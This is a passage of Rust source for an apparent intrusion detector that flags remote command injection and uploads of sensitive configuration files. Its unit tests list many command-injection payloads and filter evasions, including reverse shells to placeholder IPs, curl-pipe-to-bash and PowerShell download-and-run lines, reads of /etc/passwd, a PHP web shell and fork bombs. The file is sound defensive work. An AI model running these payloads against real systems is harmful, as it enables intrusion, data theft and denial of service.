        let rest = &s[p + 4..];
        let name = &rest[..rest.bytes().take_while(|&c| is_word(c)).count()];
        // `bin/cscli` as a whole value: a relative bin directory, with a shell-only name.
        let relative =
            p == 0 && flags(name) & F_DISTINCT != 0 && name.len() == rest.trim_end().len();
        if (dir_ok || relative) && commands().contains_key(name) {
            return Some(p);
        }
    }
    None
}

/// Where an absolute path with glob characters resolves to a system file or command
/// (`/etc/pas[s]wd`, `cat /et*/*wd`, `/???/??t`). Only the first few such tokens are tried.
fn globbed_path(s: &str) -> Option<usize> {
    memchr::memchr3(b'?', b'*', b'[', s.as_bytes())?;
    let b = s.as_bytes();
    let mut tried = 0;
    for (p, _) in s.match_indices('/') {
        let token_start = p == 0
            || matches!(
                b[p - 1],
                b' ' | b'\t' | b'+' | b'=' | b';' | b'|' | b'&' | b'(' | b'`' | b'\n' | b','
            );
        if !token_start {
            continue;
        }
        let len = b[p..]
            .iter()
            .take_while(|&&c| !matches!(c, b' ' | b'\t' | b'+' | b'&' | b';' | b'|' | b'\n' | b','))
            .count();
        let token = &b[p..p + len];
        if !token.iter().any(|c| matches!(c, b'?' | b'*' | b'[')) {
            continue;
        }
        if glob::resolve(token).is_some() {
            return Some(p);
        }
        tried += 1;
        if tried == 8 {
            break;
        }
    }
    None
}

/// Files a server or a shell reads as configuration or runs at login: uploading one over
/// the real file changes what runs (`.htaccess` handlers, `.bashrc`, `authorized_keys`).
const RESTRICTED_UPLOADS: &[&str] = &[
    ".htaccess",
    ".htpasswd",
    ".htdigest",
    ".user.ini",
    "php.ini",
    "web.config",
    "wp-config.php",
    "settings.php",
    "config.php",
    "configuration.php",
    "localsettings.php",
    "local.xml",
    "database.yml",
    "secrets.yml",
    ".env",
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".bash_logout",
    ".profile",
    ".zshrc",
    ".zprofile",
    ".cshrc",
    ".pam_environment",
    "authorized_keys",
    "id_rsa",
    "id_ed25519",
    ".boto",
    ".npmrc",
    ".netrc",
    ".pypirc",
    ".gitconfig",
    ".git-credentials",
    ".pgpass",
    ".my.cnf",
    "crontab",
    "sudoers",
    "passwd",
    "shadow",
    "ld.so.preload",
    "rc.local",
    ".xinitrc",
    ".vimrc",
    ".exrc",
    ".inputrc",
];

/// An uploaded file named like one of [`RESTRICTED_UPLOADS`], also as a backup copy or with
/// the spacing and separators a filter may miss (`wp-config-php.bak`, `settings. php`).
fn restricted_upload(leaf: &Leaf) -> bool {
    // Upload headers are all `X-…` ones: other headers are not worth the name lookup.
    let header_ok = leaf
        .header
        .as_deref()
        .is_none_or(|h| h.starts_with("X-") || h.starts_with("X_"));
    if leaf.lower.len() > 96 || !header_ok {
        return false;
    }
    let Some(name) = super::upload::filename(leaf) else {
        return false;
    };
    let base = name.rsplit(['/', '\\']).next().unwrap_or(name);
    let mut base: String = base
        .chars()
        .filter(|c| !c.is_whitespace() && *c != '\0')
        .collect();
    loop {
        let t = base.trim_end_matches(['.', '~']);
        let t = [
            ".bak", ".old", ".orig", ".save", ".swp", ".tmp", ".txt", ".backup", ".dist",
        ]
        .iter()
        .find_map(|x| t.strip_suffix(x))
        .unwrap_or(t);
        if t.len() == base.len() {
            break;
        }
        base = t.to_owned();
    }
    let dotted = base.replace("-php", ".php").replace("_php", ".php");
    RESTRICTED_UPLOADS.contains(&base.as_str()) || RESTRICTED_UPLOADS.contains(&dotted.as_str())
}

impl Detector for Rce {
    fn attack(&self) -> AttackType {
        AttackType::Rce
    }

    fn check(&self, leaf: &Leaf, present: &LitSet) -> Option<Finding> {
        let s = leaf.lower.as_str();
        if s.len() < 2 {
            return None;
        }
        if restricted_upload(leaf) {
            return Some(Finding {
                at: 0..s.len(),
                reason: "upload of a configuration file",
            });
        }
        self.analyse(s, present).map(|(a, b, reason)| Finding {
            at: a.min(s.len())..b.min(s.len()),
            reason,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(v: &str) -> bool {
        Rce::new()
            .analyse(&v.to_ascii_lowercase(), &LitSet::all())
            .is_some()
    }

    /// Each word once per list (a repeat is a slip when the lists are extended by hand).
    #[test]
    fn command_lists_have_no_repeats() {
        for list in [
            COMMANDS,
            BARE,
            PREFIXES,
            START_BARE,
            DISTINCT,
            INTERPRETERS,
            NUMERIC,
        ] {
            let mut seen = std::collections::HashSet::new();
            for w in list {
                assert!(seen.insert(w), "{w:?} listed twice");
            }
        }
    }

    #[test]
    fn finds_command_injection() {
        let missed = [
            "; cat /etc/passwd",
            "1|id",
            "x && whoami",
            "`uname -a`",
            "$(curl http://x/y.sh)",
            "127.0.0.1; ping -c 3 evil",
            "/bin/bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
            "c'a't /etc/passwd",
            "x;/???/c?t /etc/passwd",
            "nohup sh -c whoami\n",
            "cat${IFS}/etc/passwd",
            "| dir c:\\",
            "Invoke-WebRequest http://example.com/x.ps1",
            ";iex (iwr http://10.0.0.1/x.ps1)",
            "for /f %a in ('dir /b') do echo %a",
            "una$$me -a",
            "cat$u /etc$u/passwd",
            "'wh'oami",
            "code=time whoami | sh",
            "<(cat file)",
            ";python3.10 -c 'import os'",
            "IF EXIST C:\\pagefile.sys (CMD) ELSE (CMD)",
            "if \"%var%\"==\"\" (SET var=default value)",
            "alias a=b",
            ":(){ :|:& };:",
            "time curl example.org",
            ";chmod +x evil.php",
            "a=nc&&$a -nlvp 555",
            "$SHELL -c \"echo hi\"",
            "| /bin/sleep 31 ;",
            "+|+dir+c:/",
            "ping.exe -n 31 127.0.0.1",
            // Evasions: quotes, empty expansions and substitutions inside the command word.
            "\"w\"get example.org",
            "x;w'h'o'am'i",
            "1;un$@ame",
            "ne``tstat -an",
            "n$()c -e /bin/sh 10.1.1.1 80",
            "k'i'll -9 1",
            // Globs and brace lists the shell expands before running anything.
            "/???/?at /etc/hosts",
            "x;/?s?/?i?/wh?ami",
            "less /e?c/sha*ow",
            "{,uname,-a}",
            "{wh,}oami",
            "{p,}s -ef",
            // Pipes into an interpreter, variables as command or as spacers.
            "curl -s example.org/x | bash",
            "x;c=id;$c",
            "1;$u wget x.example/a",
            "1;$u $v nc -e sh host 1",
            // Names that only exist in a shell, anywhere they start a command.
            "kubectl get secrets",
            "1; systemctl stop firewalld",
            "ansible-vault view vault.yml",
            "1&&apt-get install ncat",
            // Shellshock, fork bombs, sqlite dot commands, subshell redirection.
            "() { ignored; }; /bin/id",
            "bomb(){ bomb & bomb; }; bomb",
            "1;.system curl example.org",
            "d=/dev;(bash)0>$d/udp/1.2.3.4/53",
            // cmd.exe batch syntax and scheduling, drive paths.
            "if /i \"%~1\"==\"-h\" goto help",
            "& at 23:59 /every:m \"cmd /c calc\"",
            "+type+c:\\boot.ini",
            // A URL carrying the command in its query.
            "https://example.net/p?q=uname -a&x=1",
            "{,$'id',}",
            "bin/kubectl",
            "\"`true`\"",
            "''w''get x",
            // Blind, time-based probes: a delay after any separator.
            ";sleep 5",
            "|sleep 10|",
            "1 && sleep 5 #",
            "\";sleep 5;\"",
            ";sleep+5;",
            // Characters picked out of variables, ANSI-C and caret escapes.
            ";cat ${HOME:0:1}etc${HOME:0:1}passwd",
            ";ls ${PATH:0:1}",
            ";$'\\x77\\x68\\x6f\\x61\\x6d\\x69'",
            ";$'\\167\\150\\157\\141\\155\\151'",
            ";w^h^o^a^m^i",
            "| c^m^d /c dir",
            // Brace lists and cmd.exe options glued to the tool.
            ";{cat,/etc/passwd}",
            "& dir/s c:\\",
            ";cmd/c whoami",
            "x&ipconfig/all",
            // Subcommands of tools named like words, scripts run by interpreters.
            "&& net user",
            "| net localgroup administrators",
            ";reg query hklm\\software",
            ";bash script.sh",
            ";python exploit.py",
            // PowerShell cmdlets, gawk network files, output into a web file.
            ";iex(iwr http://x/a.ps1)",
            ";Start-Process calc.exe",
            ";awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"}'",
            ";echo '<?php system($_GET[1]);?>'>x.php",
            ";getent passwd",
            ";mkfifo /tmp/p",
            "kill -9 1",
            "kill '-'9\n",
            ";gunzip -c /var/log/x.gz",
            ";dmidecode -t 1",
            // Windows paths to the tool, PowerShell's environment drive and .NET calls.
            "& c:\\windows\\system32\\whoami",
            "& \"c:\\windows\\system32\\whoami.exe\"",
            "| %SYSTEMROOT%\\System32\\ipconfig /all",
            ";$env:username",
            ";[System.Diagnostics.Process]::Start('calc')",
            "& net1 user",
            ";c${u}at /etc/passwd",
            "alias 'x'=curl",
            ";lsof -i",
            ";df",
            // Shell expressions evaluated without a command: arithmetic, bash-only expansions.
            "$((1+1))",
            "x=$((1337*7331))",
            "${PATH##*:}",
            "${#PATH}",
            "$[2+2]",
        ]
        .iter()
        .filter(|v| !hit(v))
        .collect::<Vec<_>>();
        assert!(missed.is_empty(), "{missed:?}");
    }

    fn upload(name: &str) -> bool {
        let mut leaf = Leaf::new(
            crate::point::Point::name("header"),
            crate::point::Place::Header,
            name.to_owned(),
        );
        leaf.header = Some("X-FILENAME".into());
        restricted_upload(&leaf)
    }

    #[test]
    fn uploads_of_configuration_files() {
        for n in [
            ".htaccess",
            "wp-config-php.bak",
            "settings. php",
            "../../.bashrc",
            "authorized_keys~",
            "web.config.old",
        ] {
            assert!(upload(n), "{n}");
        }
        for n in [
            "photo.jpg",
            "config.php.jpg",
            "notes.txt",
            "my-settings.pdf",
        ] {
            assert!(!upload(n), "{n}");
        }
    }

    #[test]
    fn ignores_prose() {
        let flagged = [
            "cat food",
            "Tom & Jerry",
            "fish &amp; chips",
            "ping me later",
            "rock;paper;scissors",
            "id card number",
            "echo chamber",
            "a | b",
            "find the best deals",
            "R&D; sales",
            "for each item in (list) do nothing",
            "time flies like an arrow",
            "O'Brien's time",
            "price $5 or $10",
            "see (fig. 3)",
            "if it exists we go",
            "if (a == b) { run(); }",
            "an alias for bob",
            "time is money",
            "sudo is a program",
            "$ 5 and $a lot",
            // Tag and column lists, interpreters without a script, spacer variables alone.
            "linux;bash;shell-scripting",
            "python|ruby|perl",
            ";$a $b $c",
            "id, name, email",
            // English contractions and quoted words are no evasion.
            "I'd like a cat",
            "'cat' is a word",
            "say \"who\" am i",
            // Globs and braces that name nothing of the system.
            "/posts/[slug]/edit",
            "*/*",
            "{red,green,blue}",
            "/api/*/items?q=1",
            // Prose, URLs and user agents with command names.
            "CD / DVD drive",
            "Wget/1.21.4",
            "wget",
            "Notes:\n\n```\nnpm install --save lodash\n```\n",
            "https://example.net/p?q=cat food&x=1",
            "meet at 2:00 \"sharp\"",
            "if 100% == done",
            "f() { return 1; }",
            "set it to `true` in the config file",
            "bin/rails",
            "true",
            // Delays, slashes and subcommand words in prose.
            "sleep well tonight",
            "I sleep 8 hours",
            "sleep: 5 hours",
            "copy/paste",
            "cut;copy/paste;delete",
            "set/get",
            "net use of funds",
            "the ip address",
            "x^2 + y^2",
            "${name:-guest}",
            "it's 5 o'clock",
            "python is a language",
            "bash party",
            "rock & roll",
            "c:\\windows\\temp\\report.txt",
            "price: $env is not a variable",
            "[Math]::max is C# style",
            "news;free;top",
            "${i%2}",
            "${a/b}",
            "$[5] off",
        ]
        .iter()
        .filter(|v| hit(v))
        .collect::<Vec<_>>();
        assert!(flagged.is_empty(), "{flagged:?}");
    }
}
